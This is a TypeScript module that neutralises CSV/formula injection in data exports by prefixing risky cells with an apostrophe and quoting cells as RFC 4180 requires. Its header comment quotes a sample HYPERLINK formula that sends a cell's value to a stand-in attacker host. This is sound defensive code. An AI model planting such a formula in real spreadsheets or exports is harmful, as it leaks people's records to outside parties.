/**
 * CSV for every export (issue 11, finding 10; OWASP "CSV injection"). A spreadsheet runs a cell that
 * begins with `=`, `+`, `-` or `@` as a formula (and a tab or carriage return can hide one), so a
 * name typed as `=HYPERLINK("https://evil.example/?"&A1)` could send a record to someone else when a
 * practitioner opens an export. Every such cell is given a leading apostrophe, which spreadsheets show
 * as text, and every cell is quoted when it needs to be. Exports build their rows with `csvRow` only.
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/** A cell's text, neutralised and quoted as CSV needs. */
export function csvCell(value: string | number | boolean | null | undefined): string {
  if (value === null || value === undefined) return '';
  // Numbers and booleans are written as they are: a negative number is a number, not a formula.
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean') return value ? 'true' : 'false';
  const text = FORMULA_START.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) || text !== text.trim() ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One line of CSV, ended with CRLF as RFC 4180 asks. */
export function csvRow(cells: readonly (string | number | boolean | null | undefined)[]): string {
  return `${cells.map(csvCell).join(',')}\r\n`;
}
